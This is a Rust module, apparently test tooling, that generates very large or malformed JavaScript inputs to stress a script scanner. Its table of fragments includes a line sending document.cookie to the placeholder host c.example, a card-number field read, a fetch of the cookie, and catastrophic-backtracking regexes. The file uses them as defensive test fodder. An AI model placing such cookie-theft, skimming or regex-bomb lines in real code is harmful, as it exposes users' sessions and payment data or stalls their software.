//! Scripts that cost a reader more than they should: deep, long, wide, and garbage. All of them are ours, and none does
//! anything.

use std::iter;

/// A kind of script.
#[derive(Clone, Copy, Debug)]
#[non_exhaustive]
pub struct Kind {
    /// What it has too much of.
    pub name: &'static str,
    form: Form,
}

#[derive(Clone, Copy, Debug)]
enum Form {
    /// What opens a level, stands inside, and closes a level.
    Nested(&'static str, &'static str, &'static str),
    /// What stands before, again and again, and behind. `NTH` is the number of the part.
    Repeated(&'static str, &'static str, &'static str),
    /// As repeated, with two things again and again, half of the script each, and what stands between them.
    Halves(&'static str, &'static str, &'static str, &'static str),
    /// Units of UTF-16 in turn, with a byte order mark.
    Utf16(&'static [u16]),
    /// Bytes in turn.
    Bytes(&'static [u8]),
    /// A string in code in a string, and so on: each level doubles the escapes.
    Quoted,
}

impl Kind {
    /// All kinds.
    #[must_use]
    pub fn all() -> Vec<Self> {
        let rows = NESTING.lines().filter(|line| !line.starts_with('#'));
        let nested = rows.filter_map(|row| {
            let mut cells = row.split('\t').map(|cell| cell.trim_start_matches('|').trim_end_matches('|'));
            let name = cells.next()?;
            let (open, middle, close) = (cells.next()?, cells.next()?, cells.next()?);
            Some(Self { name, form: Form::Nested(open, middle, close) })
        });
        nested.chain(OTHERS.iter().map(|(name, form)| Self { name, form: *form })).collect()
    }

    /// A script of this kind of about `bytes` bytes.
    #[must_use]
    pub fn script(&self, bytes: usize) -> Vec<u8> {
        match self.form {
            Form::Nested(open, middle, close) => {
                let depth = bytes / (open.len() + close.len()).max(1);
                let body = open.repeat(depth) + middle + &close.repeat(depth);
                // Groups are nested inside of a regular expression.
                if open.starts_with("(?") { format!("a=/{body}/") } else { body }.into_bytes()
            }
            Form::Repeated(before, again, behind) => {
                let mut script = String::from(before);
                repeat(&mut script, again, bytes);
                (script + behind).into_bytes()
            }
            Form::Halves(before, first, between, second) => {
                let mut script = String::from(before);
                repeat(&mut script, first, bytes / 2);
                script.push_str(between);
                repeat(&mut script, second, bytes);
                script.into_bytes()
            }
            Form::Utf16(units) => {
                let units = iter::once(&0xFEFF).chain(units.iter().cycle());
                units.take(bytes / 2).flat_map(|unit| unit.to_le_bytes()).collect()
            }
            Form::Bytes(part) => part.iter().copied().cycle().take(bytes).collect(),
            Form::Quoted => {
                let mut script = String::from("f(1)");
                while script.len() < bytes {
                    script = format!("eval({script:?})");
                }
                script.into_bytes()
            }
        }
    }
}

/// Adds a part until the script has this many bytes.
fn repeat(script: &mut String, part: &str, bytes: usize) {
    let mut nth = 0;
    while script.len() < bytes {
        nth += 1;
        script.push_str(&part.replace("NTH", &nth.to_string()));
    }
}

/// The table that the test of the crate uses.
const NESTING: &str = include_str!("../../crates/jsintegrity/tests/data/nesting.tsv");

const OTHERS: &[(&str, Form)] = &[
    ("sum of texts", Form::Repeated("a=''", "+'bNTH'", "")),
    ("sum of escapes", Form::Repeated("a=''", "+'\\x61'", "")),
    ("and chain", Form::Repeated("a", "&&bNTH", "")),
    ("optional chain", Form::Repeated("a", "?.bNTH", "")),
    ("method chain", Form::Repeated("a", ".b(NTH)", "")),
    ("decoding chain", Form::Repeated("a='b'", ".toUpperCase()", "")),
    ("replace chain", Form::Repeated("a='bbbb'", ".replace(/b/g,'bb')", "")),
    ("copies of a value", Form::Repeated("var v0=document.cookie;", "var vNTH=v0;v0=vNTH;", "fetch(v0)")),
    ("huge string", Form::Repeated("a='", "word ", "'")),
    ("huge string of escapes", Form::Repeated("a='", "\\u0062", "'")),
    ("huge template", Form::Repeated("a=`", "word ", "`")),
    ("template of parts", Form::Repeated("a=`", "${b}", "`")),
    ("huge number", Form::Repeated("a=", "9", "")),
    ("huge name", Form::Repeated("a", "b", "=1")),
    ("huge name of escapes", Form::Repeated("a", "\\u0062", "=1")),
    ("huge comment", Form::Repeated("/*", "word\n", "*/")),
    ("huge base64", Form::Repeated("a=atob('", "YWJj", "')")),
    ("array of numbers", Form::Repeated("a=[", "NTH,", "]")),
    ("array of texts", Form::Repeated("a=[", "'wNTH',", "]")),
    ("array of holes", Form::Repeated("a=[", ",", "]")),
    ("object of keys", Form::Repeated("a={", "kNTH:1,", "}")),
    ("character codes", Form::Repeated("a=String.fromCharCode(", "97,", "98)")),
    ("indices of an array", Form::Repeated("var a=['b','c'];", "d(a[1]);", "")),
    ("functions", Form::Repeated("", "function f(){}\n", "")),
    ("named functions", Form::Repeated("", "function fNTH(a){return a}", "")),
    ("arrow functions", Form::Repeated("", "a=>b;", "")),
    ("calls of functions", Form::Repeated("function f(a){return a}", "f(f(NTH));", "")),
    ("functions in defaults", Form::Nested("function f(x=", "1", "){}")),
    ("functions in defaults, named apart", Form::Halves("a=", "function(xNTH=", "1", "){}")),
    ("functions in defaults, and names behind", Form::Nested("function(x=", "1", ",y=z){}")),
    (
        "calls of a function with a long default",
        Form::Halves("function f(a=[", "NTH,", "]){b.src=a}", "f();"),
    ),
    ("classes", Form::Repeated("", "class CNTH{#a=1;b(){}}", "")),
    ("parameters", Form::Repeated("function f(", "aNTH,", "b){}")),
    ("arguments", Form::Repeated("f(", "NTH,", "0)")),
    ("variables", Form::Repeated("var a", ",bNTH=NTH", "")),
    ("one name again", Form::Repeated("", "var a;", "")),
    ("labels", Form::Repeated("", "lNTH:;", "")),
    ("switch cases", Form::Repeated("switch(a){", "case NTH:", "}")),
    ("empty statements", Form::Repeated("", ";", "")),
    ("line breaks", Form::Repeated("", "\r\n", "a")),
    ("other line breaks", Form::Repeated("", "\u{2028}\u{2029}", "a")),
    ("html comments", Form::Repeated("", "<!--\n-->\n", "")),
    ("regex bombs", Form::Repeated("", "/((a+)+)+$/.test(b);", "")),
    ("regex of repeats", Form::Repeated("a=/", "(b*)*", "/")),
    ("regex of choices", Form::Repeated("a=/(b", "|b", ")*$/")),
    ("regex of classes", Form::Repeated("a=/[", "a-z", "]/")),
    ("regex or division", Form::Repeated("a", "/b", "")),
    ("bad slashes", Form::Repeated("", "/", "")),
    ("open quotes", Form::Repeated("", "'\n\"\n`", "")),
    ("escapes of surrogates", Form::Repeated("a='", "\\ud800\\u{dfff}", "'")),
    ("addresses", Form::Repeated("", "a('https://hNTH.example/p');", "")),
    ("thefts", Form::Repeated("", "new Image().src='//c.example/?c='+document.cookie;", "")),
    ("card fields", Form::Repeated("", "b=document.querySelector('#cc_number').value;", "")),
    ("packers", Form::Repeated("", "}('0 1',2,2,'a|b'.split('|'),0,{}))", "")),
    ("code in strings", Form::Repeated("", "eval('a(\"b\")');", "")),
    ("code in code in strings", Form::Quoted),
    ("lone surrogates", Form::Utf16(&[0xD800, 0x0061, 0xDC00, 0xDC00, 0xD800])),
    ("quoted surrogates", Form::Utf16(&[0x0027, 0xD800, 0x0027, 0x003B])),
    ("bytes that are no text", Form::Bytes(&[0xFF, 0xC3, 0x28, 0xF0, 0x80, 0x27])),
    ("nul bytes", Form::Bytes(&[0])),
    ("every byte", Form::Bytes(b"\x01\x7f\x80\xfe(){}[]'\"`/*\\\n#@\xe2\x80\xa8$a1.=,;:?!~^%&|<>+-")),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kinds_are_distinct_and_of_the_size_that_was_asked_for() {
        let kinds = Kind::all();
        let names: std::collections::BTreeSet<&str> = kinds.iter().map(|kind| kind.name).collect();
        assert_eq!((names.len(), kinds.len()), (31 + OTHERS.len(), 31 + OTHERS.len()));
        for kind in kinds {
            let script = kind.script(100_000);
            let most = if matches!(kind.form, Form::Quoted) { 300_000 } else { 101_000 };
            assert!((90_000..most).contains(&script.len()), "{}: {}", kind.name, script.len());
        }
    }
}
